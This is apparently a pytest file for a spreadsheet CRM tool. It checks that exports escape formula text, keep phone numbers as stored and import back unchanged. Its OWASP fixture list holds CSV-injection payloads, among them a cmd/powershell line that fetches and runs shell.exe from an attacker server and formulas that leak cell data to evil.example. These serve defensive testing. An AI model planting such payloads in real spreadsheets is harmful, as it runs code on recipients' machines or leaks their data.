"""Files for people (``model.tablefile``, ``outputs.drafts``): free text a spreadsheet would
run is escaped, phones and numbers are written as the sheet holds them, the importer gives
back exactly what was exported, drafts stay in their folder and on their lines, and a
digest that could not be delivered is named (``RemindResult.undelivered``)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_reports import Mailbox

from sheetcrm.backends.memory import MemoryBackend
from sheetcrm.crm import CRM, open_crm
from sheetcrm.errors import DiskError
from sheetcrm.ingest.export import export_tab
from sheetcrm.ingest.importer import import_file
from sheetcrm.ingest.readers import read_source
from sheetcrm.model.codecs import CODECS
from sheetcrm.model.display import as_text
from sheetcrm.model.tablefile import cell, csv_text, escape, needs_escape, unescape, write_csv
from sheetcrm.model.values import looks_like_formula
from sheetcrm.outputs.reminders import remind

AS_OF = dt.date(2026, 11, 21)


@pytest.fixture(autouse=True)
def _own_outbox(tmp_path, monkeypatch):
    """The mail outbox (which says what was sent already) in this test's folder."""
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


#: OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection),
#: the leads a spreadsheet runs (tab, CR, LF, full-width forms among them) and near misses.
OWASP = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!E2",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://evil.example","click")',
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/X", "sheet!A1:E3")',
    '=IMAGE("https://evil.example/logo.png")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # ＝
    "\uff0bSUM(1+1)",  # ＋
    "\uff0d2+3",  # －
    "\uff20SUM(1+1)",  # ＠
]

TEXT, PHONE, MONEY, NUMBER = CODECS["text"], CODECS["phone"], CODECS["money"], CODECS["number"]


@pytest.mark.parametrize(
    ("value", "codec", "written"),
    [
        ("Sara Mohammadi", TEXT, "Sara Mohammadi"),
        ("Ann =1+1", TEXT, "Ann =1+1"),  # not at the start: no spreadsheet runs it
        ("=1+1", TEXT, "'=1+1"),
        ("-5", TEXT, "'-5"),  # text that a spreadsheet would type in: free text
        ("'=1+1", TEXT, "''=1+1"),  # so that the importer gives back the apostrophe too
        ("'ordinary", TEXT, "'ordinary"),
        ("=1+1", None, "'=1+1"),  # a teammate's column: free text
        (-5, None, "-5"),  # ... but a number stored as a number is a number
        (-5.0, MONEY, "-5.00"),
        (-1234.5, MONEY, "-1,234.50"),
        ("-5", NUMBER, "-5"),
        ("-2+3", NUMBER, "'-2+3"),  # a number column holding text: free text
        ("=SUM(A1)", NUMBER, "'=SUM(A1)"),
        ("+447400194875", PHONE, "+447400194875"),  # E.164: a phone, as the sheet has it
        ("+98 912 345 6789", PHONE, "'+98 912 345 6789"),  # typed by hand: not E.164
        ("+SUM(1+1)*cmd|' /C calc'!A0", PHONE, "'+SUM(1+1)*cmd|' /C calc'!A0"),
        ("-447400194875", PHONE, "'-447400194875"),
        ("+447400194875", TEXT, "'+447400194875"),  # the same text in a notes column
        ("=cmd|'/Ccalc'!A0@evil.example", CODECS["email"], "'=cmd|'/Ccalc'!A0@evil.example"),
        ("-A1", CODECS["id"], "'-A1"),  # a valid ID that is a formula
        ("C-0001", CODECS["id"], "C-0001"),
        (True, CODECS["bool"], "TRUE"),
        ("maybe", CODECS["bool"], "maybe"),  # a teammate's word, not TRUE
        ("=1+1", CODECS["bool"], "'=1+1"),
        ("-1234.5", MONEY, "-1234.5"),  # a money column holding a number as text
        (dt.datetime(2026, 3, 1), CODECS["date"], "2026-03-01"),
        (None, TEXT, ""),
    ],
)
def test_cell_escapes_free_text_only(value, codec, written):
    assert cell(value, codec) == written
    shown = as_text(value, codec)
    assert cell(value, codec, raw=True) == shown and written in (shown, "'" + shown)


@pytest.mark.parametrize("payload", OWASP)
def test_every_owasp_payload_is_inert_in_any_column(payload):
    for codec in (TEXT, PHONE, MONEY, CODECS["email"], CODECS["id"], None):
        written = cell(payload, codec)
        assert written == "'" + payload and not looks_like_formula(written)
        assert unescape(written) == payload


@given(st.text())
def test_escape_is_inert_and_undone_exactly(text):
    assert not looks_like_formula(escape(text))
    assert unescape(escape(text)) == text


@given(st.text())
def test_the_quick_check_agrees_with_looks_like_formula(text):
    """``needs_escape`` looks at the first character before asking ``looks_like_formula``;
    should that learn a new lead, this fails until the quick check knows it too."""
    for t in (text, "'" + text, " " + text, "\u3000" + text):
        assert needs_escape(t) == looks_like_formula(t.lstrip("'"))


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n \uff1dab1")))
def test_escape_round_trips_apostrophes_and_leads(text):
    assert unescape(escape(text)) == text
    if text.strip():  # a blank cell is written blank
        assert unescape(cell(text, TEXT)) == text


def test_csv_text_escapes_a_teammates_header_and_reads_back(tmp_path):
    text = csv_text(["name", "=cmd|' /C calc'!A0"], [["=1+1", -5]], {"name": TEXT})
    assert text == "name,'=cmd|' /C calc'!A0\n'=1+1,-5\n"
    path = tmp_path / "t.csv"
    path.write_text(text, encoding="utf-8")
    table = read_source(path)
    assert table.columns == ["name", "=cmd|' /C calc'!A0"]
    assert table.rows[0].values == {"name": "=1+1", "=cmd|' /C calc'!A0": "-5"}


def test_write_csv_is_private_with_a_bom_when_asked(tmp_path):
    path = write_csv(tmp_path / "out" / "w.csv", ["name"], [["سارا محمدی"]], bom=True)
    assert path.read_bytes() == "\ufeffname\nسارا محمدی\n".encode()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert read_source(path).rows[0].values == {"name": "سارا محمدی"}


def test_a_failed_write_is_one_line_and_leaves_the_old_file(tmp_path, monkeypatch):
    path = tmp_path / "w.csv"
    path.write_text("old\n", encoding="utf-8")

    def full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(DiskError, match=r"could not write .*w\.csv \(No space left on device\)"):
        write_csv(path, ["name"], [["new"]])
    assert path.read_text(encoding="utf-8") == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["w.csv"]  # no temporary file left
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    monkeypatch.undo()
    with pytest.raises(DiskError, match="could not write"):
        write_csv(tmp_path / "a-file" / "w.csv", ["name"], [["new"]])


# --- a CRM holding the payloads --------------------------------------------------------

#: How people type phones (by ``i % 4``), and the E.164 the sheet then holds.
TYPED = [
    "+44 7400 1948{:02d}",
    "0098 912 345 67{:02d}",
    "+880 1712-3456{:02d}",
    "(415) 555-01{:02d}",
]
E164 = ["+4474001948{:02d}", "+98912345 67{:02d}", "+88017123456{:02d}", "+1415555 01{:02d}"]
PHONES = [E164[i % 4].format(i).replace(" ", "") for i in range(1, len(OWASP) + 1)]


def payload_files(folder: Path) -> tuple[Path, Path]:
    """A contact export whose names, products and notes are the payloads, with real phones
    (typed as people type them) and valid e-mails, and a sales export where each of them
    bought once, long ago (so all are on the win-back list); written as CSV, quoted where
    CSV needs it."""
    people, sales = io.StringIO(), io.StringIO()
    p, s = csv.writer(people, lineterminator="\r\n"), csv.writer(sales, lineterminator="\r\n")
    p.writerow(["customer_id", "name", "email", "phone", "products", "notes"])
    s.writerow(["interaction_id", "date", "type", "customer_id", "amount", "summary"])
    for i, payload in enumerate(OWASP, start=1):
        name = f"Ann {payload.strip()}" if i % 2 == 0 else payload
        phone = TYPED[i % 4].format(i)
        p.writerow([f"C-{i}", name, f"c{i}@example.com", phone, payload, payload])
        amount = "-5" if i == 1 else f"{1000 + i}.50"
        s.writerow([f"I-{i}", "2025-01-10", "purchase", f"C-{i}", amount, payload])
    (folder / "people.csv").write_text(people.getvalue(), encoding="utf-8", newline="")
    (folder / "sales.csv").write_text(sales.getvalue(), encoding="utf-8", newline="")
    return folder / "people.csv", folder / "sales.csv"


def hostile_crm(folder: Path) -> CRM:
    """A CRM that imported ``payload_files``."""
    crm = CRM(backend=MemoryBackend())
    crm.init()
    people, sales = payload_files(folder)
    assert import_file(crm, people, tab="Customers").counts.created == len(OWASP)
    assert import_file(crm, sales, tab="Interactions").counts.created == len(OWASP)
    return crm


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_inert_csv(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, value in row.items():
            if column == "phone":
                assert value == "" or value in PHONES, value
            elif looks_like_formula(value):
                assert column in ("amount", "total_spent"), (column, value)
                float(value.replace(",", ""))  # a number, nothing else


def test_export_csv_keeps_phones_and_numbers_and_escapes_text(tmp_path):
    crm = hostile_crm(tmp_path)
    rows = rows_of(export_tab(crm, "Customers", "csv"))
    assert_inert_csv(rows)
    stored = crm.frame("Customers").set_index("customer_id")
    for row in rows:
        assert row["phone"] == stored.loc[row["customer_id"], "phone"]  # byte for byte
        assert unescape(row["name"]) == stored.loc[row["customer_id"], "name"]
    sales = rows_of(export_tab(crm, "Interactions", "csv"))
    assert sales[0]["amount"] == "-5.00" and sales[0]["summary"] == "'=cmd|' /C calc'!A0"
    raw = rows_of(export_tab(crm, "Customers", "csv", raw=True))
    assert [r["notes"] for r in raw] == [p.strip() for p in OWASP]


def test_exported_csv_imports_back_to_a_plan_of_nothing(tmp_path):
    crm = hostile_crm(tmp_path)
    for tab in ("Customers", "Interactions"):
        path = tmp_path / f"{tab}.csv"
        export_tab(crm, tab, "csv", path)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600  # customer data
        again = import_file(crm, path, tab=tab, dry_run=True)
        assert not again.changes.ops, again.changes.render()
        assert again.counts.unchanged == len(OWASP) and again.counts.quarantined == 0


def test_an_xlsx_export_that_fails_leaves_the_older_one(tmp_path, monkeypatch):
    crm = hostile_crm(tmp_path)
    out = tmp_path / "c.xlsx"
    export_tab(crm, "Customers", "xlsx", out)
    before = out.read_bytes()
    assert stat.S_IMODE(out.stat().st_mode) == 0o600

    def fail(self, changes, schema):
        raise DiskError("could not save (No space left on device); nothing was changed")

    monkeypatch.setattr(type(open_crm(str(tmp_path / "probe.xlsx")).backend), "apply", fail)
    with pytest.raises(DiskError):
        export_tab(crm, "Customers", "xlsx", out)
    assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.glob("*.xlsx")) == ["c.xlsx"]


def test_export_ndjson_is_the_json_records_one_a_line(tmp_path):
    crm = hostile_crm(tmp_path)
    records = json.loads(export_tab(crm, "Customers", "json"))
    text = export_tab(crm, "Customers", "ndjson")
    lines = text.splitlines()
    assert text.endswith("\n") and len(lines) == len(OWASP)
    assert [json.loads(line) for line in lines] == records
    assert all("\n" not in line for line in lines)  # a payload's line break stays escaped
    assert records[0]["phone"] == "+989123456701" and records[0]["notes"] == OWASP[0]
    path = tmp_path / "c.ndjson"
    export_tab(crm, "Customers", "ndjson", path)
    assert path.read_text(encoding="utf-8") == text
    assert [r.values["name"] for r in read_source(path)] == [r["name"] for r in records]
    empty = CRM(backend=MemoryBackend())
    empty.init()
    assert export_tab(empty, "Customers", "ndjson") == ""


def test_remind_csv_escapes_names_and_keeps_phones(tmp_path):
    crm = hostile_crm(tmp_path)
    result = remind(crm, as_of=AS_OF, csv_path=tmp_path / "winback.csv")
    data = (tmp_path / "winback.csv").read_bytes()
    assert data.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    assert stat.S_IMODE((tmp_path / "winback.csv").stat().st_mode) == 0o600
    rows = rows_of(data.decode("utf-8"))
    assert len(rows) == len(result.reengage) == len(OWASP)
    assert_inert_csv(rows)
    by_id = {r["customer_id"]: r for r in rows}
    assert by_id["C-1"]["name"] == "'=cmd|' /C calc'!A0"
    assert by_id["C-8"]["name"] == 'Ann =HYPERLINK("http://evil.example","click")'
    assert by_id["C-1"]["phone"] == "+989123456701"


# --- undelivered digests -------------------------------------------------------------


def digest_crm(box: Mailbox) -> CRM:
    team = {"Arif": "arif@example.com", "Maryam": "refuse@example.com"}
    crm = CRM(backend=MemoryBackend(), config=box.smtp_config(team=team))
    crm.init()
    crm.upsert(
        "Tasks",
        [
            {
                "task_id": f"T-{i}",
                "title": f"Call {who}",
                "assignee": who,
                "due_date": "2026-11-01",
                "status": "todo",
            }
            for i, who in enumerate(["Arif", "Maryam", "Reza"], start=1)
        ],
    )
    return crm


def test_undelivered_names_who_has_no_address_and_who_was_refused():
    with Mailbox(refuse={"refuse@example.com"}) as box:
        result = remind(digest_crm(box), as_of=AS_OF, email=True)
        assert [to for to, _msg in box.messages] == [["arif@example.com"]]
    assert result.delivery.sent == ["arif@example.com"]
    gone = result.undelivered
    assert [(u.person, u.address) for u in gone] == [
        ("Reza", None),
        ("Maryam", "refuse@example.com"),
    ]
    assert str(gone[0]) == "Reza: no address in [team]"
    assert str(gone[1]).startswith("Maryam <refuse@example.com>: refused by the SMTP server (550")


def test_nothing_undelivered_when_everyone_got_theirs_or_nothing_was_mailed():
    with Mailbox() as box:
        crm = digest_crm(box)
        assert remind(crm, as_of=AS_OF).undelivered == []  # no --email
        crm.config = box.smtp_config(
            team={"Arif": "a@example.com", "Maryam": "m@example.com", "Reza": "r@example.com"}
        )
        first = remind(crm, as_of=AS_OF, email=True)
        again = remind(crm, as_of=AS_OF, email=True)  # all sent before: not undelivered
    assert first.undelivered == [] and again.undelivered == []
    assert sorted(again.delivery.already_sent) == [
        "a@example.com",
        "m@example.com",
        "r@example.com",
    ]


def test_a_mailchimp_audience_round_trips_through_export(tmp_path):
    """A real-shaped import (Mailchimp's audience export: Persian and Bengali names, a
    web-form payload in a name, phones as people type them), exported and imported back:
    the plan is empty, and the phones in the export are the sheet's E.164."""
    header = ["Email Address", "First Name", "Last Name", "Phone Number", "MEMBER_RATING"]
    header += ["OPTIN_TIME", "OPTIN_IP", "CONFIRM_TIME", "LEID", "EUID", "NOTES", "TAGS"]
    people = [
        ("sara@example.ir", "سارا", "محمدی", "+98 912 345 6789", "=1+1 from the form"),
        ("moumita@example.com", "মৌমিতা", "দাস", "+880 1712-345678", "-2+3 আগামী সপ্তাহে"),
        ("x@example.com", '=HYPERLINK("http://evil.example","click")', "Hacker", "", ""),
        ("nima@example.ir", "نیم\u200cفاصله", "Ahmadi", "+98 912 345 6780", "@ordered twice"),
    ]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    for n, (mail, first, last, phone, notes) in enumerate(people, start=1):
        optin = f"2026-01-0{n} 10:00:00"
        writer.writerow([mail, first, last, phone, 2, optin, "", "", n, n, notes, '"VIP"'])
    path = tmp_path / "members_export_0a1b2c.csv"
    path.write_text(out.getvalue(), encoding="utf-8-sig", newline="")
    crm = CRM(backend=MemoryBackend())
    crm.init()
    first = import_file(crm, path, preset="mailchimp")
    assert first.counts.created == len(people), first.counts
    exported = tmp_path / "customers.csv"
    export_tab(crm, "Customers", "csv", exported)
    rows = rows_of(exported.read_text(encoding="utf-8"))
    assert [r["phone"] for r in rows] == ["+989123456789", "+8801712345678", "", "+989123456780"]
    assert rows[2]["name"].startswith("'=HYPERLINK(") and rows[3]["name"].startswith("نیم\u200c")
    again = import_file(crm, exported, tab="Customers", dry_run=True)
    assert not again.changes.ops, again.changes.render()
